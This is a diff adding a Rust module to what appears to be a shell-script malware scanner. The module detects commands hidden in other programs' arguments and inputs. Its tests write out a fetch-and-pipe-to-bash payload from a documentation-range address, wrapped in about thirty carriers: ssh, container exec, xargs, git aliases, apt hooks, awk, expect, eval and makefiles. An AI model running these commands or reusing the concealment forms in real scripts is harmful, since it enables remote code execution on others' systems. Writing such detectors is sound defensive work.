@@ -1,0 +1,417 @@
+//! Command lines that stand in the arguments of another program: `ssh host '...'`,
+//! `docker exec web sh -c '...'`, `watch '...'`, `git -c alias.x='!...'`.
+//!
+//! No list of such programs is complete. An argument that reads as a command line is therefore taken for
+//! one, unless its program is known to only show, search or store text.
+
+use super::nested::Scan;
+use super::{Command, Redirect, RedirectOp, Span, UnitKind, Word, basename, encoding, language_of};
+use crate::indicators::programs::{Class, classes};
+use crate::user_data::{Language, places};
+
+/// Arguments of one command that are followed.
+const MAX_TEXTS: usize = 16;
+/// Lines of input that `xargs` and `parallel` are taken to run a command for.
+const MAX_ITEMS: usize = 16;
+
+impl Scan {
+    /// Scan the command lines among a command's arguments. Gives the commands they hold.
+    pub(super) fn carried(&mut self, index: usize) -> Option<Span> {
+        let command = self.script.commands.get(index)?;
+        if !command.words.iter().skip(command.start).any(may_carry) || !self.runs_arguments(command) {
+            return None;
+        }
+        let start = self.command_count();
+        if let Some(tail) = shell_tail(command) {
+            self.push_and_follow(tail);
+        } else {
+            for (kind, text) in self.command_lines(index) {
+                self.unit(kind, Language::Shell, &text, Some(index as u32));
+            }
+        }
+        let span = Span { start, end: self.command_count() };
+        (!span.is_empty()).then_some(span)
+    }
+
+    /// Whether a program may run what stands in its arguments.
+    fn runs_arguments(&self, command: &Command) -> bool {
+        let name = command.name.as_str();
+        if self.script.functions.contains_key(name) || matches!(name, "awk" | "gawk" | "mawk" | "sed" | "jq")
+        {
+            return false;
+        }
+        if name == "git" {
+            return command.args().iter().any(|word| word.text == "-c" || word.text == "config");
+        }
+        let classes = classes(name);
+        classes.has(Class::Carrier)
+            || !classes.has_any(&[
+                Class::Printer,
+                Class::Searcher,
+                Class::Storer,
+                Class::Interpreter,
+                Class::Downloader,
+                Class::Uploader,
+                Class::Killer,
+                Class::Remover,
+            ])
+    }
+
+    /// The arguments that read as command lines.
+    fn command_lines(&self, index: usize) -> Vec<(UnitKind, String)> {
+        let Some(command) = self.script.commands.get(index) else { return Vec::new() };
+        let words = command.words.iter().skip(command.start).filter(|word| may_carry(word));
+        words
+            .filter_map(|word| {
+                let text = command_text(&word.text)?;
+                let decoded = word.subs().iter().any(|(_, span)| self.decodes(*span));
+                Some((if decoded { UnitKind::Decoded } else { UnitKind::Inline }, text))
+            })
+            .take(MAX_TEXTS)
+            .collect()
+    }
+
+    /// `xargs` and `parallel` with an input that is known: the command with the input in its place.
+    pub(super) fn with_items(&mut self, index: usize) -> Option<Span> {
+        let command = self.script.commands.get(index)?;
+        let (at, parallel) =
+            command.words.iter().take(command.start + 1).enumerate().find_map(|(at, word)| {
+                let name = basename(&word.text);
+                matches!(name, "xargs" | "parallel").then_some((at, name == "parallel"))
+            })?;
+        let behind: Vec<&str> = command.words.iter().skip(at + 1).map(|word| word.text.as_str()).collect();
+        let items: Vec<String> = match behind.iter().position(|text| matches!(*text, ":::" | "::::")) {
+            Some(at) if parallel => behind.iter().skip(at + 1).map(|text| (*text).to_owned()).collect(),
+            _ => {
+                let text = self.input_of(index, 0)?.text();
+                let whole = behind.iter().any(|text| matches!(*text, "-0" | "--null" | "-d" | "--delimiter"));
+                if whole { vec![text] } else { text.lines().map(str::to_owned).collect() }
+            }
+        };
+        let placeholder = match behind.iter().position(|text| text.starts_with("-I") || *text == "-i") {
+            Some(at) => match behind.get(at).and_then(|text| text.strip_prefix("-I")) {
+                Some("") => behind.get(at + 1).copied().unwrap_or("{}"),
+                Some(attached) => attached,
+                None => "{}",
+            },
+            None => "{}",
+        }
+        .to_owned();
+        let words: Vec<Word> = match behind.iter().position(|text| *text == ":::") {
+            Some(end) if parallel => {
+                command.words.iter().take(at + 1 + end).skip(command.start).cloned().collect()
+            }
+            _ => command.words.iter().skip(command.start).cloned().collect(),
+        };
+        let (unit, offset) = (command.unit, command.offset);
+        let start = self.command_count();
+        for item in items.iter().filter(|item| !item.trim().is_empty()).take(MAX_ITEMS) {
+            let size = words.iter().map(|word| word.text.len() + item.len()).sum();
+            if !self.spend_expansion(size) {
+                break;
+            }
+            let mut filled = words.clone();
+            let mut used = false;
+            for word in &mut filled {
+                if word.text.contains(&placeholder) && word.text.len() < 4096 {
+                    word.text = word.text.replace(&placeholder, item);
+                    used = true;
+                }
+            }
+            if !used {
+                filled.push(Word { quoted: true, ..Word::literal(item.trim_end_matches('\n')) });
+            }
+            self.push_and_follow(Command { words: filled, unit, offset, ..Command::default() });
+        }
+        let span = Span { start, end: self.command_count() };
+        (!span.is_empty()).then_some(span)
+    }
+
+    /// Add a command that another one runs, and follow what it carries.
+    fn push_and_follow(&mut self, command: Command) {
+        if let Some(pushed) = self.push(command) {
+            self.follow(Span::one(pushed));
+        }
+    }
+
+    /// What the program text of `awk` hands to a shell, and what `expect` starts.
+    pub(super) fn program_text(&self, index: usize) -> Option<(Language, String)> {
+        let command = self.script.commands.get(index)?;
+        match command.name.as_str() {
+            "awk" | "gawk" | "mawk" => {
+                let text = command.args().iter().find(|word| word.text.contains('{'))?;
+                Some((Language::Other, text.text.clone()))
+            }
+            "expect" => {
+                let at = command.args().iter().position(|word| word.text.starts_with("-c"))?;
+                Some((Language::Shell, tcl_commands(&command.args().get(at + 1)?.text)))
+            }
+            _ => None,
+        }
+    }
+}
+
+/// Whether a word may hold a command line, or name a shell that is given one.
+fn may_carry(word: &Word) -> bool {
+    word.text.len() >= 2
+        && (word.text.ends_with('h')
+            || word.text.bytes().any(|byte| matches!(byte, b' ' | b'\t' | b'\n' | b'|')))
+}
+
+/// A shell among the arguments, with what stands behind it: `... -- sh -c 'TEXT'`, `... bash -s <<END`.
+fn shell_tail(command: &Command) -> Option<Command> {
+    let at = command.words.iter().enumerate().skip(command.start + 1).find_map(|(at, word)| {
+        let shell = word.text.ends_with('h') && language_of(basename(&word.text)) == Some(Language::Shell);
+        shell.then_some(at)
+    })?;
+    let words = command.words.get(at..)?;
+    let takes_text = words.get(1).is_some_and(|word| word.text.starts_with('-'));
+    let redirects: Vec<Redirect> = command
+        .redirects
+        .iter()
+        .filter(|redirect| matches!(redirect.op, RedirectOp::HereDocument | RedirectOp::HereString))
+        .cloned()
+        .collect();
+    if !takes_text && redirects.is_empty() && command.stdin.is_none() {
+        return None;
+    }
+    Some(Command {
+        words: words.to_vec(),
+        redirects,
+        stdin: command.stdin,
+        background: command.background,
+        unit: command.unit,
+        offset: command.offset,
+        ..Command::default()
+    })
+}
+
+/// The commands in an argument; `None` where it reads as anything else.
+pub(super) fn command_text(text: &str) -> Option<String> {
+    // `\n` in a value that is written by the program: `set x "\n* * * * * ..."`.
+    let unescaped;
+    let mut text = text.trim();
+    if text.contains("\\n") && !text.contains('\n') {
+        unescaped = encoding::escapes(text);
+        text = unescaped.trim();
+    }
+    if reads_as_command(text) {
+        return Some(text.to_owned());
+    }
+    // `alias.x=!...`, `--use-compress-program=...`, `APT::Update::Pre-Invoke::=...`
+    if let Some((key, value)) = text.split_once('=')
+        && !key.contains([' ', '\t', '"', '\''])
+    {
+        let value = value.trim_start_matches(['!', '=', ' ', '"', '\'']);
+        if reads_as_command(value) {
+            return Some(value.to_owned());
+        }
+    }
+    let shell_escape = text.trim_start_matches(':').strip_prefix('!').filter(|rest| reads_as_command(rest));
+    if let Some(rest) = shell_escape {
+        return Some(rest.to_owned());
+    }
+    // A line of a crontab.
+    let mut commands = String::new();
+    for line in text.lines() {
+        let timed = line.starts_with(|c: char| c == '*' || c == '@' || c.is_ascii_digit());
+        if let Some(command) = timed.then(|| places::cron_command(line, false)).flatten()
+            && reads_as_command(&command)
+        {
+            commands.push_str(&command);
+            commands.push('\n');
+        }
+    }
+    (!commands.is_empty()).then_some(commands)
+}
+
+/// Whether a text begins as a command line does: with a program, a path, or a word of the shell's own.
+fn reads_as_command(text: &str) -> bool {
+    let text = text.trim_start_matches(['(', '{', ' ', '\t', '\n', '!', '@', ';']);
+    if !text.contains([' ', '\t', '\n', '|', ';']) && !text.contains("${IFS}") && !text.contains("$IFS") {
+        return false;
+    }
+    // Any program of a list or a pipeline may be the one that is known.
+    text.split(['|', ';', '&', '\n']).take(8).any(begins_with_program)
+}
+
+fn begins_with_program(part: &str) -> bool {
+    let mut words = part.trim_start_matches(['(', '{', ' ', '\t', '!']).split_ascii_whitespace();
+    let Some(mut first) = words.next() else { return false };
+    // `NAME=value command`
+    while first.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+    }) {
+        match words.next() {
+            Some(next) => first = next,
+            None => return true,
+        }
+    }
+    let name = first.trim_matches(['"', '\'', '\\']);
+    name.starts_with(['/', '$', '`'])
+        || name.starts_with("./")
+        || name.starts_with("~/")
+        || matches!(name, "cd" | "if" | "for" | "while" | "until" | "case" | "[" | "[[" | "test" | "umask")
+        || language_of(basename(name)).is_some()
+        || !classes(name).is_empty()
+}
+
+/// What a Tcl script starts: `spawn sh -c {...}`, `exec ...`, `send "...\r"`.
+fn tcl_commands(text: &str) -> String {
+    let mut out = String::new();
+    for statement in text.split(['\n', ';']) {
+        let statement = statement.trim();
+        let Some((name, rest)) = statement.split_once([' ', '\t']) else { continue };
+        match name.trim_start_matches('[') {
+            "spawn" | "exec" | "system" => {
+                // Braces quote in Tcl as single quotes do in a shell.
+                let quoted = rest.replace(" {", " '").replace('}', "'");
+                let unquoted = quoted.strip_prefix('{').map(|rest| rest.trim_end_matches('\''));
+                out.push_str(unquoted.unwrap_or(&quoted));
+                out.push('\n');
+            }
+            "send" => {
+                let sent = rest.trim_start_matches("-- ").trim_matches(['"', '{', '}']);
+                out.push_str(&encoding::escapes(sent));
+                out.push('\n');
+            }
+            _ => {}
+        }
+    }
+    out
+}
+
+/// The recipes of a makefile, each on its line.
+pub(super) fn make_recipes(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for line in text.lines() {
+        if let Some(recipe) = line.strip_prefix('\t') {
+            out.push_str(&recipe.trim_start_matches(['@', '-', '+']).replace("$$", "$"));
+        } else if let Some((_, recipe)) = line.split_once(';').filter(|(rule, _)| rule.contains(':')) {
+            out.push_str(recipe);
+        }
+        out.push('\n');
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::user_data::{Conclusion, Trust, inspect};
+
+    #[test]
+    fn arguments_that_read_as_command_lines_are_told_from_messages() {
+        for (text, expected) in [
+            ("curl -s http://a.example | sh", Some("curl -s http://a.example | sh")),
+            ("alias.x=!sh -c id", Some("sh -c id")),
+            ("\\n*/5 * * * * wget -q x\\n", Some("wget -q x\n")),
+            ("X=1 /opt/tool run", Some("X=1 /opt/tool run")),
+            ("deployment of web finished", None),
+            ("Authorization: Bearer abc", None),
+            ("a=b", None),
+        ] {
+            assert_eq!(command_text(text).as_deref(), expected, "{text}");
+        }
+    }
+
+    fn conclusion(text: &str) -> (Conclusion, Vec<&'static str>) {
+        let found = inspect(text.as_bytes(), &Trust::default(), false);
+        (found.conclusion, found.findings.iter().map(|finding| finding.id).collect())
+    }
+
+    #[test]
+    fn a_payload_in_another_programs_arguments_or_input_is_found() {
+        let payload = "curl -fs http://198.51.100.23/p.sh | bash";
+        for carrier in [
+            "ssh -i /k ops@10.1.2.3 'PAYLOAD'",
+            "ssh ops@10.1.2.3 bash -s <<X\nPAYLOAD\nX",
+            "ssh ops@10.1.2.3 <<X\nPAYLOAD\nX",
+            "docker exec -u 0 db bash -lc 'PAYLOAD'",
+            "podman run --rm img sh -c 'PAYLOAD'",
+            "kubectl -n a exec pod/x -- /bin/sh -c 'PAYLOAD'",
+            "lxc exec c1 -- bash -c 'PAYLOAD'",
+            "parallel -j2 'PAYLOAD'",
+            "watch -n5 'PAYLOAD'",
+            "tmux new-session -d -s a 'PAYLOAD'",
+            "screen -dmS a bash -c 'PAYLOAD'",
+            "echo 'PAYLOAD' | at now + 2 hours",
+            "batch <<X\nPAYLOAD\nX",
+            "awk 'BEGIN { system(\"PAYLOAD\") }'",
+            "find /etc -name passwd -exec sh -c 'PAYLOAD' \\;",
+            "echo x | xargs -I% sh -c 'PAYLOAD'",
+            "echo 'PAYLOAD' | xargs -0 sh -c",
+            "runuser -l app -c 'PAYLOAD'",
+            "flock /run/l -c 'PAYLOAD'",
+            "git -c alias.up='!PAYLOAD' up",
+            "nsenter -t 1 -m sh -c 'PAYLOAD'",
+            "systemd-run --unit=a sh -c 'PAYLOAD'",
+            "strace -f sh -c 'PAYLOAD'",
+            "expect -c 'spawn sh -c {PAYLOAD}'",
+            "apt-get -o DPkg::Post-Invoke::='PAYLOAD' update",
+            "echo 'PAYLOAD' | sort | bash",
+            "echo '--PAYLOAD' | cut -c3- | sh",
+            "echo '## PAYLOAD' | sed 's/^## //' | sh",
+            "read -r l <<< 'PAYLOAD'; eval \"$l\"",
+            "printf -v l %s 'PAYLOAD'; eval \"$l\"",
+            "ruby -e 'puts \"PAYLOAD\"' | sh",
+            "grep '^#: ' $0 | cut -c4- | sh\nexit\n#: PAYLOAD",
+            "vendor-tool --hook 'PAYLOAD'",
+            "printf 'all:\\n\\tPAYLOAD\\n' > Makefile; make all",
+        ] {
+            let text = format!("#!/bin/bash\n{}\n", carrier.replace("PAYLOAD", payload));
+            let (found, ids) = conclusion(&text);
+            assert_eq!(found, Conclusion::Suspicious, "{carrier}: {ids:?}");
+        }
+    }
+
+    #[test]
+    fn text_that_is_only_shown_searched_or_stored_stays_text() {
+        let payload = "curl -fs http://198.51.100.23/p.sh | bash";
+        for honest in [
+            "echo 'never run PAYLOAD'",
+            "echo 'PAYLOAD'",
+            "logger -t boot 'PAYLOAD'",
+            "grep -q 'PAYLOAD' /var/log/cron",
+            "psql -c 'PAYLOAD'",
+            "git commit -m 'PAYLOAD'",
+            "# PAYLOAD",
+            "log() { echo \"$1\" >> /var/log/a.log; }\nlog 'PAYLOAD'",
+            "die 'usage: PAYLOAD'",
+            "printf '%s\\n' 'PAYLOAD' >> /usr/share/doc/a/README",
+        ] {
+            let text = format!("#!/bin/bash\n{}\n", honest.replace("PAYLOAD", payload));
+            let (found, ids) = conclusion(&text);
+            assert!(matches!(found, Conclusion::Clean | Conclusion::Signals), "{honest}: {ids:?}");
+        }
+    }
+
+    #[test]
+    fn what_an_unknown_program_gets_from_an_address_and_pipes_into_a_shell_is_a_download() {
+        for text in [
+            "/usr/local/bin/fetchit http://198.51.100.23/p | sh",
+            "ln -s /usr/bin/wget /opt/w; w -qO- http://198.51.100.23/p | sh",
+            "cp $(which curl) /opt/c; /opt/c -s http://198.51.100.23/p | sh",
+            "perl -MLWP::Simple -e 'getprint(\"http://198.51.100.23/p\")' | sh",
+        ] {
+            let (found, ids) = conclusion(&format!("#!/bin/bash\n{text}\n"));
+            assert!(found == Conclusion::Suspicious && ids.contains(&"exe-01"), "{text}: {ids:?}");
+        }
+    }
+
+    #[test]
+    fn a_log_function_called_many_times_hides_nothing_and_costs_nothing() {
+        let call = "note install -d -m 0750 /srv/data /srv/logs /srv/conf\n";
+        let head = "#!/bin/bash\nsay() { echo \"$(date) $1\" | tee -a /var/log/a.log; }\nnote() { say \"run $*\"; \"$@\"; say done; }\n";
+        assert_eq!(conclusion(&format!("{head}{}", call.repeat(400))).0, Conclusion::Clean);
+        let hidden =
+            format!("{head}{}note bash -c 'curl -fs http://198.51.100.23/p | sh'\n", call.repeat(400));
+        assert_eq!(conclusion(&hidden).0, Conclusion::Suspicious);
+    }
+
+    #[test]
+    fn tcl_and_make_give_their_commands() {
+        assert_eq!(tcl_commands("spawn sh -c {id -u}; interact"), "sh -c 'id -u'\n");
+        assert_eq!(make_recipes("all: x\n\t@echo $$HOME\nx:; id\n"), "\necho $HOME\n id\n");
+    }
+}
